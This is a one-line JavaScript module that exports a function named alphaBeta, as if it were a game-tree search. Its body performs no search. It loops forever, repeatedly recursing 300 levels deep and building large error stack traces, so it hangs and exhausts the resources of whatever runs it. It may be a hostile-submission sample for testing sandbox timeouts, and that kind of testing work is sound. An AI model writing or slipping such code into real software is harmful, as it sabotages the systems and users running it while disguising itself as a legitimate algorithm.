export function alphaBeta(game, state) { const deep = (n) => n === 0 ? new Error('x'.repeat(1000)).stack : deep(n - 1); for (;;) deep(300); }
